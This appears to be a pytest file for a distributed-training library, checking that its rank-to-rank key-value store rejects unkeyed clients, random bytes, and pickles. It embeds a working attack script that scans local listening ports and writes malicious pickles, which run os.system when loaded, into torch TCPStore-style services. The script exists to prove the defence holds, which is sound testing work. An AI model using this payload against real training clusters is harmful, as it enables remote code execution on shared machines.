"""Nobody without the key reads, writes or disturbs what ranks of a run say to one another; and no pickle is read."""

from __future__ import annotations

import contextlib
import os
import socket
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.hostile import strangers

pytest.importorskip("msgspec")

from tests.cluster.runs import train
from tidemill.cluster.report import StoreAddress
from tidemill.cluster.worker import store as stores
from tidemill.cluster.worker.store import KeyedStore, StoreServer
from tidemill.dock.net.caller import Caller
from tidemill.errors import CollectiveError
from tidemill.run.watcher import Watcher

SOON = timedelta(seconds=10)

# Writes a pickle that leaves a mark under every key that the ranks of an engine may read next, into whatever listens on
# this machine for TCP or has a name of ours, in the language of torch's TCPStore. Until its input ends.
ATTACK = r"""
import os, pickle, select, socket, struct, sys
mark = sys.argv[1]

class Run:
    def __reduce__(self):
        return os.system, (f"touch {mark}",)

def word(text):
    return struct.pack("<Q", len(text)) + text

def listening():
    for name in ("tcp", "tcp6"):
        for line in open(f"/proc/net/{name}").read().splitlines()[1:]:
            _, here, _, state, *_ = line.split()
            if state == "0A":
                yield socket.AF_INET, ("127.0.0.1", int(here.rpartition(":")[2], 16))

evil = pickle.dumps([("submit", Run())])
said = b"\x00" + struct.pack("<I", 0x3C85F7CE)  # who speaks is a client of a TCPStore
for number in range(2000):
    for key in (f"/engine-0/{number}", f"/engine-0/calls-{number}", f"/call/{number}"):
        said += b"\x01" + word(key.encode()) + word(evil)  # SET
tried = set()
while not select.select([sys.stdin], [], [], 0.05)[0]:
    for family, address in listening():
        try:
            peer = socket.socket(family)
            peer.settimeout(1)
            peer.connect(address)
            peer.sendall(said)
            tried.add(str(address))
            peer.close()
        except OSError:
            pass
print(len(tried))
"""


class Until(Watcher):
    """Goes on training for as long as the attack needs to have found everything."""

    def __init__(self) -> None:
        self.steps = 0

    def stepped(self, step: int, metrics: dict[str, float]) -> None:
        self.steps += 1
        time.sleep(0.3)  # time for the attack between two steps, while ranks wait for what is said next


@strangers.needs_root
def test_a_pickle_that_another_user_writes_into_whatever_listens_is_not_run(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    attack = strangers.start(ATTACK, mark)
    watch = Until()
    try:
        train(tmp_path, watch, rollout={"tp": 2}, train={"steps": 4})
    finally:
        tried = int(strangers.told(attack))
        assert not mark.exists(), "another user's code ran in a worker"
    assert tried > 3, "the attack found nothing to speak to"
    assert watch.steps >= 4


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Any:
    made = StoreServer("127.0.0.1")
    monkeypatch.setattr(stores, "_here", {})  # as other processes find it
    yield made
    made.close()


def test_whoever_has_the_key_shares_what_is_in_the_store(server: StoreServer) -> None:
    first, second = KeyedStore(server.address, SOON), KeyedStore(server.address, SOON)
    first.set("a", b"x")
    assert second.get("a") == b"x" and second.add("n", 3) == 3 and first.add("n", 4) == 7
    assert first.check(["a", "n"]) and not first.check(["a", "b"]) and first.delete_key("a")
    assert second.compare_set("c", "", "new") == b"new" == second.compare_set("c", "other", "newer")


def test_a_value_can_be_looked_for_without_waiting(server: StoreServer) -> None:
    first, second = KeyedStore(server.address, SOON), KeyedStore(server.address, SOON)
    assert second.poll("a") is None and second.poll("a") is None
    first.set("a", b"x")
    deadline = time.monotonic() + 10
    while (found := second.poll("a")) is None:
        assert time.monotonic() < deadline
    assert found == b"x" and second.get("a") == b"x" and second.poll("b") is None


def test_whoever_has_another_key_gets_no_answer(server: StoreServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(stores, "GONE_S", 0.1)
    KeyedStore(server.address, SOON).set("secret", b"x")
    with pytest.raises(CollectiveError, match="keeps the ranks' store is gone"):
        KeyedStore(StoreAddress(server.address.address, "0" * 64), SOON).get("secret")


def test_bytes_that_are_no_message_change_nothing(server: StoreServer) -> None:
    host, _, port = server.address.address.removeprefix("tcp://").rpartition(":")
    for _ in range(20):
        with socket.create_connection((host, int(port))) as peer, contextlib.suppress(OSError):
            peer.sendall(os.urandom(4096))
    store = KeyedStore(server.address, SOON)
    store.set("a", b"x")
    assert store.get("a") == b"x" and store.num_keys() == 1


def test_a_request_that_comes_twice_is_carried_out_once(server: StoreServer) -> None:
    caller = Caller(server.address.key, server.address.address, decode=stores._decode_answer)
    assert caller.ask(stores.Add("n", 1), 10) == 1
    caller._seq -= 1
    assert caller.ask(stores.Add("n", 1), 10) == 1  # the same number: the same answer
    assert caller.ask(stores.Add("n", 1), 10) == 2


def test_who_waits_is_told_when_the_store_ends(server: StoreServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(stores, "GONE_S", 0.1)
    store = KeyedStore(server.address, timedelta(days=1))
    store.set("a", b"x")
    server.close()
    with pytest.raises(CollectiveError, match="keeps the ranks' store is gone"):
        store.get("never")


def test_a_key_is_not_shown() -> None:
    assert "secret" not in repr(StoreAddress("tcp://127.0.0.1:1", "secret"))
